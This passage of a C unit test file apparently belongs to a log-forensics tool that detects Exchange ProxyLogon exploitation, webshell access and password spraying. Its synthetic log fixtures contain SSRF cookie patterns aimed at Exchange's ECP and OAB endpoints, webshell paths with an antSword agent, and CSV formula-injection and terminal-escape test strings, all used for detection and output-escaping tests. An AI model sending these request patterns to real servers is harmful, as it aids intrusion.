        "10.1.2.%d Mozilla/5.0 200\r\n",
        u, u, u + 1, u, u);
  /* Someone reloading the failure page 25 times (no POST), and 25 POSTs
     whose redirect comes two minutes later: not paired, not failures. */
  for (int i = 0; i < 25; i++)
    put(&t,
        "2021-03-04 08:%02d:00 10.0.0.5 GET /owa/auth/logon.aspx reason=2 "
        "443 - 10.9.9.9 Mozilla/5.0 200\r\n"
        "2021-03-04 09:%02d:00 10.0.0.5 POST /owa/auth.owa - 443 - "
        "10.9.9.10 Mozilla/5.0 302\r\n"
        "2021-03-04 09:%02d:00 10.0.0.5 GET /owa/auth/logon.aspx reason=2 "
        "443 - 10.9.9.10 Mozilla/5.0 200\r\n",
        i, i * 2, i * 2 + 2);
  put_file(dir, "u_ex210304.log", &t);
  sp_result *r = tu_hunt(dir, 2);
  assert_null(tu_find(r, "spoor.auth.forms_spray", 0));
  assert_null(tu_find(r, "spoor.auth.forms_success_after_failures", 0));
  assert_null(tu_find(r, "spoor.auth.password_spray", 0));
  assert_null(tu_find(r, "spoor.auth.success_after_failures", 0));
  sp_result_destroy(r);
  free(t.p);
  tu_rm_rf(dir);
  free(dir);
}

/* One source spraying 5,000 accounts: past 4,096 accounts per source the
 * rest are counted but not named, the same ones for any -j, and the limit
 * says how many failures that was. Then 100 of the accounts log on: 64 are
 * named, the same ones for any -j, and the rest are a limit. */
static void test_spray_account_budget(void **state) {
  (void)state;
  enum { ACCOUNTS = 5000 };
  char *dir = tu_tmpdir();
  text t = {malloc(1 << 20), 0, 1 << 20};
  for (int f = 0; f < 4; f++) {
    put(&t, "%s", IIS_HDR);
    for (int a = f; a < ACCOUNTS; a += 4)
      put(&t,
          "2021-03-03 %02d:%02d:%02d 10.0.0.5 POST /owa/auth.owa - 443 "
          "CORP\\u%d 203.0.113.9 curl 401\r\n",
          a / 3600, a / 60 % 60, a % 60, a);
    for (int a = f; a < 100; a += 4)
      put(&t,
          "2021-03-03 05:00:%02d 10.0.0.5 POST /owa/auth.owa - 443 "
          "CORP\\u%d 203.0.113.9 curl 200\r\n",
          a % 60, a);
    char name[32];
    snprintf(name, sizeof name, "u_ex%d.log", f);
    put_file(dir, name, &t);
  }
  sp_result *r1 = tu_hunt(dir, 1), *r4 = tu_hunt(dir, 4);
  char *a = out_of(r1, SP_FORMAT_JSONL), *b = out_of(r4, SP_FORMAT_JSONL);
  assert_string_equal(a, b);
  const sp_finding *s = tu_find(r1, "spoor.auth.password_spray", 0);
  assert_non_null(s);
  assert_int_equal(s->count, ACCOUNTS); /* every failure still counts */
  assert_non_null(strstr(s->reason, "more than "));
  const sp_limit *l1 = limit_of(r1, "spray.accounts_per_source"),
                 *l4 = limit_of(r4, "spray.accounts_per_source");
  assert_non_null(l1);
  assert_non_null(l4);
  assert_true(l1->count >= ACCOUNTS - 4096);
  assert_true(l1->count < ACCOUNTS);
  assert_int_equal(l1->count, l4->count);
  const char *ok = "spoor.auth.success_after_failures";
  assert_non_null(tu_find(r1, ok, 63));
  assert_null(tu_find(r1, ok, 64));
  l1 = limit_of(r1, "spray.successes_per_source");
  l4 = limit_of(r4, "spray.successes_per_source");
  assert_non_null(l1);
  assert_int_equal(l1->count, 36);
  assert_int_equal(l4->count, 36);
  free(a);
  free(b);
  sp_result_destroy(r1);
  sp_result_destroy(r4);
  free(t.p);
  tu_rm_rf(dir);
  free(dir);
}

/* Eleven rules with 9,500 distinct findings each (none a flood) overflow
 * the finding set: the least severe rule with the highest rank is dropped
 * whole, the same for any -j, and the limit names and counts it. */
static void test_finding_overflow(void **state) {
  (void)state;
  enum { N = 9500 };
  char *dir = tu_tmpdir();
  text t = {malloc(1 << 20), 0, 1 << 20};
  put(&t, "%s", IIS_HDR);
  for (int i = 0; i < N; i++) {
    char ip[32];
    snprintf(ip, sizeof ip, "10.%d.%d.%d", i >> 16, i >> 8 & 255, i & 255);
    const char *tm = "2021-03-03 01:00:00 10.0.0.5";
    put(&t, "%s GET /aspnet_client/s.aspx - 443 - %s x 200\r\n", tm, ip);
    put(&t, "%s GET /aspnet_client/p.aspx - 443 - %s x 404\r\n", tm, ip);
    put(&t, "%s POST /ecp/y.js - 443 - %s x 241\r\n", tm, ip);
    put(&t, "%s GET /ecp/default.flt - 443 EXCH01$ %s x 200\r\n", tm, ip);
    put(&t,
        "%s POST /ecp/DDI/DDIService.svc/SetObject "
        "schema=OABVirtualDirectory 443 - %s x 200\r\n",
        tm, ip);
  }
  put_file(dir, "u_ex.log", &t);
  put(&t, "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy "
          "Logs\r\n#Fields: DateTime,Protocol,UrlStem,AnchorMailbox,"
          "BackEndCookie,ClientIpAddress,ServerHostName,HttpStatus\r\n");
  for (int i = 0; i < N; i++) {
    char ip[32];
    snprintf(ip, sizeof ip, "10.%d.%d.%d", i >> 16, i >> 8 & 255, i & 255);
    const char *tm = "2021-03-03T01:00:00.000Z,Ecp,/ecp/y.js";
    put(&t,
        "%s,ServerInfo~a]@x:444/ecp/DDI/DDIService.svc/"
        "SetObject?schema=ResetOABVirtualDirectory#,,%s,EXCH01,200\r\n",
        tm, ip);
    put(&t, "%s,,Server~a]@x:444/ecp/default.flt~1,%s,EXCH01,500\r\n", tm, ip);
    put(&t,
        "%s,ServerInfo~a]@x:444/autodiscover/autodiscover.xml?#,,%s,EXCH01,"
        "500\r\n",
        tm, ip);
    put(&t, "%s,ServerInfo~localhost/ecp/default.flt?#,,%s,EXCH01,500\r\n", tm,
        ip);
  }
  put_file(dir, "HttpProxy.LOG", &t);
  sp_result *r1 = tu_hunt(dir, 1), *r4 = tu_hunt(dir, 4);
  char *a = out_of(r1, SP_FORMAT_JSONL), *b = out_of(r4, SP_FORMAT_JSONL);
  assert_string_equal(a, b);
  const sp_limit *l1 = limit_of(r1, "findings.overflow"),
                 *l4 = limit_of(r4, "findings.overflow");
  assert_non_null(l1);
  assert_non_null(l4);
  assert_int_equal(l1->count, N); /* one low rule, one hit per finding */
  assert_int_equal(l4->count, N);
  assert_non_null(strstr(l1->detail, "100,000"));
  assert_int_equal(sp_result_finding_count(r1), 10 * N);
  /* Exactly one of the two low-level rules is gone. */
  int autod =
      tu_find(r1, "spoor.exchange.cve_2021_26855.autodiscover", 0) != NULL;
  int local =
      tu_find(r1, "spoor.exchange.cve_2021_26855.localhost_scan", 0) != NULL;
  assert_true(autod != local);
  /* The critical ones are all there. */
  assert_non_null(
      tu_find(r1, "spoor.exchange.cve_2021_27065.reset_vdir", N - 1));
  free(a);
  free(b);
  sp_result_destroy(r1);
  sp_result_destroy(r4);
  free(t.p);
  tu_rm_rf(dir);
  free(dir);
}

/* A scanner that tries 1,000 pages from one address is one finding that
 * says so; 12,000 addresses sending one SSRF each are one finding too. */
static void test_flood_findings(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  text t = {malloc(1 << 20), 0, 1 << 20};
  put(&t, "%s", IIS_HDR);
  for (int i = 0; i < 1000; i++)
    put(&t,
        "2021-03-03 02:%02d:%02d 10.0.0.5 GET /aspnet_client/p%d.aspx - 443 "
        "- 203.0.113.50 scanner 200\r\n",
        i / 60 % 60, i % 60, i);
  /* Another source with two pages stays two findings. */
  put(&t, "2021-03-03 03:00:00 10.0.0.5 GET /aspnet_client/a.aspx - 443 - "
          "198.51.100.4 x 200\r\n"
          "2021-03-03 03:00:01 10.0.0.5 GET /aspnet_client/b.aspx - 443 - "
          "198.51.100.4 x 200\r\n");
  put_file(dir, "u_ex.log", &t);
  put(&t, "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy "
          "Logs\r\n#Fields: DateTime,Protocol,AnchorMailbox,ClientIpAddress,"
          "ServerHostName,HttpStatus\r\n");
  for (int i = 0; i < 12000; i++)
    put(&t,
        "2021-03-03T04:%02d:%02d.000Z,Ecp,ServerInfo~a]@x%d:444/ecp/"
        "default.flt?#,100.64.%d.%d,EXCH01,500\r\n",
        i / 60 % 60, i % 60, i, i >> 8, i & 255);
  put_file(dir, "HttpProxy.LOG", &t);
  sp_result *r1 = tu_hunt(dir, 1), *r2 = tu_hunt(dir, 2);
  char *a = out_of(r1, SP_FORMAT_JSONL), *b = out_of(r2, SP_FORMAT_JSONL);
  assert_string_equal(a, b);
  const char *access = "spoor.iis.webshell.access";
  const sp_finding *fl = NULL;
  for (size_t i = 0; tu_find(r1, access, i); i++)
    if (tu_find(r1, access, i)->flood_scope)
      fl = tu_find(r1, access, i);
  assert_non_null(fl);
  assert_string_equal(fl->flood_scope, "source");
  assert_int_equal(fl->flood_distinct, 1000);
  assert_false(fl->flood_estimated);
  assert_int_equal(fl->count, 1000);
  assert_int_equal(fl->n_evidence, 32);
  assert_string_equal(entity(fl, "source.ip"), "203.0.113.50");
  assert_non_null(strstr(fl->reason, "1,000 distinct findings"));
  assert_non_null(tu_find(r1, access, 2));
  assert_null(tu_find(r1, access, 3));
  const sp_finding *w =
      tu_find(r1, "spoor.exchange.cve_2021_26855.anchor_mailbox", 0);
  assert_non_null(w);
  assert_null(tu_find(r1, "spoor.exchange.cve_2021_26855.anchor_mailbox", 1));
  assert_string_equal(w->flood_scope, "rule");
  assert_int_equal(w->flood_distinct, 12000);
  assert_int_equal(w->flood_keys, 12000);
  assert_int_equal(w->count, 12000);
  assert_int_equal(w->n_entities, 0);
  assert_non_null(strstr(a, "\"flood\":{\"distinct\":12000,\"estimated\":false,"
                            "\"keys\":12000,\"scope\":\"rule\"}"));
  assert_int_equal(sp_result_limit_count(r1), 0);
  free(a);
  free(b);
  sp_result_destroy(r1);
  sp_result_destroy(r2);
  free(t.p);
  tu_rm_rf(dir);
  free(dir);
}

/* An HttpProxy log alone (the IIS logs of the day are gone): a POST to a
 * 2021 shell name is webshell use, 30 random names probed with 404 from one
 * address are one probe finding, the stock logon page is nothing. */
static void test_webshell_httpproxy_only(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  text t = {malloc(1 << 16), 0, 1 << 16};
  put(&t, "#Software: Microsoft Exchange Server\r\n#Version: "
          "15.01.2308.008\r\n#Log-type: HttpProxy Logs\r\n#Date: "
          "2021-03-03T00:00:00.000Z\r\n#Fields: DateTime,RequestId,Protocol,"
          "UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,"
          "HttpStatus,Method\r\n");
  put(&t, "2021-03-03T01:00:00.000Z,r0,Owa,/owa/auth/logon.aspx,,Mozilla,"
          "10.0.0.50,EXCH01,200,GET\r\n");
  uint32_t x = 7;
  char first[64] = "";
  for (int i = 0; i < 30; i++) {
    x = x * 1103515245u + 12345u;
    if (i == 0)
      snprintf(first, sizeof first, "/owa/auth/%08x.aspx", (unsigned)x);
    put(&t,
        "2021-03-03T02:00:%02d.000Z,p%d,Owa,/owa/auth/%08x.aspx,,zgrab,"
        "198.51.100.77,EXCH01,404,GET\r\n",
        i, i, (unsigned)x);
  }
  put(&t, "2021-03-03T03:00:00.000Z,s1,Owa,/owa/auth/errorFS.aspx,,"
          "antSword/v2.1,203.0.113.9,EXCH01,200,POST\r\n");
  put_file(dir, "HttpProxy_2021030300-1.LOG", &t);
  sp_result *r1 = tu_hunt(dir, 1), *r2 = tu_hunt(dir, 2);
  char *a = out_of(r1, SP_FORMAT_JSONL), *b = out_of(r2, SP_FORMAT_JSONL);
  assert_string_equal(a, b);
  assert_int_equal(sp_result_finding_count(r1), 2);
  const sp_finding *f = tu_find(r1, "spoor.httpproxy.webshell.access", 0);
  assert_non_null(f);
  assert_int_equal(f->level, SP_LEVEL_HIGH);
  assert_int_equal(f->count, 1);
  assert_string_equal(entity(f, "source.ip"), "203.0.113.9");
  assert_string_equal(entity(f, "url.path"), "/owa/auth/errorFS.aspx");
  assert_int_equal(f->evidence[0].where, 37);
  const sp_finding *p = tu_find(r1, "spoor.httpproxy.webshell.probe", 0);
  assert_non_null(p);
  assert_null(tu_find(r1, "spoor.httpproxy.webshell.probe", 1));
  assert_int_equal(p->count, 30);
  assert_string_equal(entity(p, "source.ip"), "198.51.100.77");
  assert_string_equal(p->reason, first);
  assert_int_equal(p->evidence[0].where, 7);
  assert_null(tu_find(r1, "spoor.iis.webshell.access", 0));
  free(a);
  free(b);
  sp_result_destroy(r1);
  sp_result_destroy(r2);
  free(t.p);
  tu_rm_rf(dir);
  free(dir);
}

static void test_deterministic(void **state) {
  (void)state;
  const char *golden = SPOOR_SOURCE_DIR "/tests/golden/exchange_basic";
  sp_result *r1 = tu_hunt(golden, 1), *r4 = tu_hunt(golden, 4);
  char *a = out_of(r1, SP_FORMAT_JSONL), *b = out_of(r4, SP_FORMAT_JSONL);
  assert_true(strlen(a) > 1000);
  assert_string_equal(a, b);
  sp_result_destroy(r1);
  sp_result_destroy(r4);
  free(a);
  free(b);
}

static void test_json_contract(void **state) {
  (void)state;
  sp_result *r = tu_hunt(SPOOR_SOURCE_DIR "/tests/golden/exchange_basic", 2);
  char *json = out_of(r, SP_FORMAT_JSONL);
  /* One object per finding, one per line. */
  size_t lines = 0;
  for (char *p = json; *p; p++)
    lines += *p == '\n';
  assert_int_equal(lines, sp_result_finding_count(r));
  const char *first = strstr(json, "\"rule\":{\"author\":\"spoor\"");
  assert_non_null(first);
  assert_non_null(strstr(json, "\"@timestamp\":\"2021-03-03T02:00:00.000Z\""));
  assert_non_null(strstr(json, "\"kind\":\"alert\""));
  assert_non_null(strstr(json, "\"severity\":90"));
  assert_non_null(strstr(json, "\"source\":{\"ip\":\"192.0.2.10\"}"));
  assert_non_null(
      strstr(json, "\"vulnerability\":{\"id\":\"CVE-2021-26855\"}"));
  assert_non_null(
      strstr(json, "\"threat\":{\"technique\":{\"id\":[\"T1190\"]}}"));
  /* ECS rule.reference: the public source of the rule's pattern. */
  assert_non_null(strstr(json, "\"reference\":\"https://www.microsoft.com/"
                               "security/blog/2021/03/02/"
                               "hafnium-targeting-exchange-servers/\""));
  assert_non_null(strstr(json, "\"evidence\":[{\"path\":\""));
  assert_non_null(strstr(json, "\"line\":7}"));
  free(json);
  char *dir = tu_tmpdir();
  assert_int_equal(sp_write_case_dir(r, dir, NULL), SP_OK);
  char p[1100];
  struct stat st;
  snprintf(p, sizeof p, "%s/findings.jsonl", dir);
  assert_int_equal(stat(p, &st), 0);
  assert_true(st.st_size > 0);
  snprintf(p, sizeof p, "%s/coverage.json", dir);
  FILE *f = fopen(p, "r");
  char cov[65536];
  size_t n = fread(cov, 1, sizeof cov - 1, f);
  cov[n] = 0;
  fclose(f);
  assert_non_null(strstr(cov, "\"source\":\"exchange_httpproxy\""));
  assert_non_null(strstr(cov, "\"first\":\"2021-03-03T01:00:00.000Z\""));
  assert_non_null(strstr(cov, "u_ex210303.log:8: "));
  assert_non_null(strstr(cov, "HttpProxy_2021030300-1.LOG:13: "));
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

static char *esc(void (*fn)(FILE *, const char *, size_t), const char *s,
                 size_t n) {
  char *buf = NULL;
  size_t len = 0;
  FILE *f = open_memstream(&buf, &len);
  fn(f, s, n);
  fclose(f);
  return buf;
}

static void term(FILE *f, const char *s, size_t n) { sp_term_str(f, s, n, 0); }

static void test_escaping(void **state) {
  (void)state;
  const char evil[] = "a\"b\\c\n\x1b[2J\x07\xff\xc3\xa9\xc2\x9b";
  char *j = esc(sp_json_str, evil, sizeof evil - 1);
  assert_string_equal(
      j, "\"a\\\"b\\\\c\\n\\u001b[2J\\u0007\\ufffd\xc3\xa9\\u009b\"");
  free(j);
  char *t = esc(term, evil, sizeof evil - 1);
  assert_null(strchr(t, 0x1b));
  assert_null(strchr(t, '\n'));
  assert_string_equal(t, "a\"b\\c\\x0a\\x1b[2J\\x07\\xff\xc3\xa9\\u009b");
  free(t);
  /* Bidi override and zero-width space: escaped for the terminal, '?' in
     CSV, kept (they are valid JSON) but never raw C1 in JSON. */
  const char bidi[] = "x\xe2\x80\xaegpj.aspx\xe2\x80\x8b";
  t = esc(term, bidi, sizeof bidi - 1);
  assert_string_equal(t, "x\\u202egpj.aspx\\u200b");
  free(t);
  char *c = esc(sp_csv_cell, bidi, sizeof bidi - 1);
  assert_string_equal(c, "\"x?gpj.aspx?\"");
  free(c);
  c = esc(sp_csv_cell, "a\xc2\x9b\xff", 4);
  assert_string_equal(c, "\"a??\"");
  free(c);
  c = esc(sp_csv_cell, "=HYPERLINK(\"x\")", 15);
  assert_string_equal(c, "\"'=HYPERLINK(\"\"x\"\")\"");
  free(c);
  c = esc(sp_csv_cell, "-2+3", 4);
  assert_string_equal(c, "\"'-2+3\"");
  free(c);
  c = esc(sp_csv_cell, "@SUM(A1)", 8);
  assert_string_equal(c, "\"'@SUM(A1)\"");
  free(c);
  c = esc(sp_csv_cell, "a\r\nb", 4);
  assert_string_equal(c, "\"a  b\"");
  free(c);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_gzip),
      cmocka_unit_test(test_truncated_gzip),
      cmocka_unit_test(test_gzip_padding),
      cmocka_unit_test(test_engine_rule_listing),
      cmocka_unit_test(test_rule_file_evidence),
      cmocka_unit_test(test_big_file_note),
      cmocka_unit_test(test_shell_with_log_header),
      cmocka_unit_test(test_symlinks),
      cmocka_unit_test(test_garbage),
      cmocka_unit_test(test_spray),
      cmocka_unit_test(test_spray_any_order),
      cmocka_unit_test(test_spray_two_logs),
      cmocka_unit_test(test_spray_behind_benign),
      cmocka_unit_test(test_spray_account_budget),
      cmocka_unit_test(test_spray_forms),
      cmocka_unit_test(test_spray_forms_benign),
      cmocka_unit_test(test_finding_overflow),
      cmocka_unit_test(test_flood_findings),
      cmocka_unit_test(test_webshell_httpproxy_only),
      cmocka_unit_test(test_deterministic),
      cmocka_unit_test(test_json_contract),
      cmocka_unit_test(test_escaping),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
